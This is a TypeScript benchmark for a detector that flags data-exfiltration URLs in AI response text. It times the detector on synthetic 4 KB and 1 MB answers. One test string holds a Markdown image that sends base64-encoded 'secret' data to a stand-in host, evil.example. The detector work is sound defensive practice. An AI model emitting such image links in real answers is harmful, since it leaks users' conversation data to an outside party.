/**
 * CPU-time benchmark of the `exfiltration.url` detector, which runs on every response text:
 *
 *   node --import tsx src/detect/exfil/bench-exfil.ts          (BENCH_ROUNDS=n for more rounds)
 *
 * Three 4 KB answers (prose without URLs; prose with six documentation links; prose with links, an HTML image and
 * a data-carrying Markdown image) and a 1 MB answer with a link every ~400 characters. Prints best-of-N µs per
 * 4 KB answer and ms per MB, in CPU time (process.cpuUsage): the machine is shared and noisy.
 */
import { exfilDetector } from "./exfil-detector.js";

const ROUNDS = Number(process.env.BENCH_ROUNDS ?? 30);
const detector = exfilDetector.build({});
const ctx = { direction: "response" as const };
const cpuUs = (): number => {
  const u = process.cpuUsage();
  return u.user + u.system;
};

const PROSE = "The service keeps a short history of each conversation and answers questions about accounts, cards and transfers. ";
const fill = (n: number, extra: (i: number) => string): string => {
  let out = "";
  for (let i = 0; out.length < n; i++) out += PROSE + extra(i);
  return out.slice(0, n);
};
const texts: Record<string, string> = {
  "4 KB, no URL": fill(4096, () => ""),
  "4 KB, 6 doc links": fill(4096, (i) => (i % 6 === 0 ? `See [the guide](https://docs.example.org/guide/section-${i}.html) and https://github.com/org/repo/pull/${i}. ` : "")),
  "4 KB, links + images": fill(4096, (i) => (i % 5 === 0 ? `![chart](https://evil.example/c.png?d=${Buffer.from(`row ${i} secret`).toString("base64")}) <img src="https://cdn.example/x${i}.png"> [doc](https://docs.example.org/${i}) ` : "")),
  "1 MB, a link every ~400 chars": fill(1 << 20, (i) => (i % 3 === 0 ? `[ref ${i}](https://docs.example.org/a/${i}?page=${i}) ` : "")),
};

for (const [name, text] of Object.entries(texts)) {
  const reps = text.length > 100_000 ? 1 : 50;
  let best = Number.POSITIVE_INFINITY;
  let found = 0;
  for (let r = 0; r < ROUNDS; r++) {
    const t0 = cpuUs();
    for (let k = 0; k < reps; k++) found = detector.detect({ text, context: ctx }).length;
    best = Math.min(best, (cpuUs() - t0) / reps);
  }
  const mb = Buffer.byteLength(text) / (1 << 20);
  process.stdout.write(`${name.padEnd(32)} ${best.toFixed(1).padStart(9)} µs/text  ${(best / 1000 / mb).toFixed(2).padStart(7)} ms/MB  findings ${found}\n`);
}
